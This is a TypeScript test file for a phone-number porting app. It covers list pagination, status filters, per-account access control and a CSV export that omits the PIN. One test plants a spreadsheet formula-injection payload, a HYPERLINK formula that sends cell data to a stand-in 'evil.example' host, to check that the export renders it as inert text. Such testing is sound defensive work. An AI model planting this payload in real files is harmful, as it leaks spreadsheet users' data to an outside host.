/**
 * The customers' Port Numbers list past one page (50 a page, how many in all, filters kept) and its
 * "Export CSV" route (app/(app)/numbers/port/export): one line per number with its request's
 * columns, only what the signed-in user's list shows, and every cell inert in a spreadsheet.
 */
import { eq, sql } from 'drizzle-orm';
import { portRequests } from '@/db/schema';
import { GET as exportCsv } from '@/app/(app)/numbers/port/export/route';
import { CURRENT_ACCOUNT_COOKIE } from '@/lib/auth/session';
import { listPortRequests } from '@/lib/porting/queries/list-port-requests';
import { submittedRequest, TEST_PIN } from '../../helpers/port-requests';
import { expectNotFound, expectRedirect, requestScope, setupRequestScope, signInAs } from '../../helpers/request-scope';
import { setupTestContext } from '../../helpers/test-context';
import { formatPhoneNumber } from '@/lib/phone/format';

jest.mock('@/lib/auth/next-auth', () => jest.requireActual('../../helpers/request-scope').nextAuthStub);
jest.mock('next/headers', () => jest.requireActual('../../helpers/request-scope').nextHeadersStub);
jest.mock('next/cache', () => jest.requireActual('../../helpers/request-scope').nextCacheStub);

const t = setupTestContext({ storage: false });
setupRequestScope();

/** `count` requests in Harbor Legal, newest first by their index (0 is the newest); every third is submitted, the rest drafts. */
async function harborRequests(count: number) {
  await t.db.execute(sql`insert into port_requests (account_id, created_by_user_id, status, losing_carrier, customer_name, created_at, updated_at, status_changed_at)
    select ${t.harborLegal}, ${t.harbor.userId}, (case when g % 3 = 0 then 'submitted' else 'draft' end)::port_request_status, 'Verizon', 'Harbor customer ' || g,
      now() - (g || ' minutes')::interval, now(), now()
    from generate_series(0, ${count - 1}) g`);
}

async function download(query = '') {
  const response = await exportCsv(new Request(`http://localhost/numbers/port/export${query}`));
  expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
  expect(response.headers.get('content-disposition')).toContain('attachment');
  return (await response.text()).replace(/^\uFEFF/, '');
}

const lines = (csv: string) => csv.trimEnd().split('\r\n');

test('120 requests make three pages of 50, 50 and 20, with the total; a status filter pages its own matches', async () => {
  await harborRequests(120);
  const pages = await Promise.all([1, 2, 3, 4].map((page) => listPortRequests(t.db, t.harbor, t.harborLegal, { page })));
  expect(pages.map((p) => p.rows.length)).toEqual([50, 50, 20, 0]);
  expect(pages.map((p) => p.hasMore)).toEqual([true, true, false, false]);
  expect(pages.every((p) => p.total === 120)).toBe(true);
  // Newest first, none twice, none missing.
  const names = pages.flatMap((p) => p.rows.map((r) => r.id));
  expect(new Set(names).size).toBe(120);

  const submitted = await listPortRequests(t.db, t.harbor, t.harborLegal, { status: 'submitted', page: 1 });
  expect(submitted).toMatchObject({ total: 40, hasMore: false });
  expect(submitted.rows).toHaveLength(40);
  expect(submitted.rows.every((r) => r.status === 'submitted')).toBe(true);
  // Another account's user pages nothing of Harbor's.
  expect(await listPortRequests(t.db, t.owner, t.harborLegal, { page: 3 })).toEqual({ rows: [], hasMore: false, total: 0 });
});

test('the export has one line per number with its request, only the signed-in account\'s requests, and never the PIN', async () => {
  const numbers = t.freshNumbers(3);
  const summitRequest = await submittedRequest(t.db, t.owner, t.summit, numbers);
  const harborRequest = await submittedRequest(t.db, t.harbor, t.harborLegal, [t.freshNumber()]);

  signInAs(t.owner);
  requestScope.cookies.set(CURRENT_ACCOUNT_COOKIE, { value: t.summit });
  const csv = await download();
  const [header, ...rows] = lines(csv);
  expect(header).toBe('Request ID,Reference,Status,Current carrier,Customer name,Submitted,Port date,Number,Receiving number,Number status,Target account');
  const mine = rows.filter((r) => r.startsWith(summitRequest));
  expect(mine.map((r) => r.split(',')[7])).toEqual(numbers.map(formatPhoneNumber));
  expect(mine[0].split(',')).toEqual([summitRequest, expect.stringMatching(/^PR-\d{4}-\d{4,}$/), 'Submitted', expect.any(String), 'Summit Marketing Group LLC', new Date().toISOString().slice(0, 10), '', formatPhoneNumber(numbers[0]), expect.stringMatching(/^\(\d{3}\) \d{3}-\d{4}$/), 'pending', 'Summit Marketing Group']);
  expect(csv).not.toContain(harborRequest);
  expect(rows.flatMap((r) => r.split(','))).not.toContain(TEST_PIN);

  // Harbor's export has Harbor's request and nothing of Summit's.
  signInAs(t.harbor);
  requestScope.cookies.set(CURRENT_ACCOUNT_COOKIE, { value: t.summit }); // a cookie naming an account not theirs changes nothing
  const harborCsv = await download();
  expect(harborCsv).toContain(harborRequest);
  expect(harborCsv).not.toContain(summitRequest);
  expect(lines(harborCsv).slice(1).map((r) => r.split(',').at(-1))).toEqual(['Harbor Legal']);
});

test('the export keeps the list\'s filters and covers every page, a batch at a time', async () => {
  await harborRequests(450);
  signInAs(t.harbor);
  const all = lines(await download());
  // No numbers on these drafts: one line each, so every request of every page is there once.
  expect(all).toHaveLength(451);
  expect(new Set(all.slice(1).map((l) => l.split(',')[0])).size).toBe(450);
  const submitted = lines(await download('?status=submitted'));
  expect(submitted).toHaveLength(151);
  expect(submitted.slice(1).every((l) => l.split(',')[2] === 'Submitted')).toBe(true);
});

test('a customer name written as a formula comes out as text', async () => {
  const id = await submittedRequest(t.db, t.harbor, t.harborLegal, [t.freshNumber()]);
  await t.db.update(portRequests).set({ customerName: '=HYPERLINK("http://evil.example/?"&A1,"Click")' }).where(eq(portRequests.id, id));
  signInAs(t.harbor);
  const [, row] = lines(await download());
  expect(row).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`);
  expect(row).not.toMatch(/(^|,)"?=/);
});

test('signed out goes to sign-in; the team, with no account of its own, gets the 404', async () => {
  await expectRedirect(() => download(), '/sign-in');
  signInAs(t.staff);
  await expectNotFound(() => download());
});
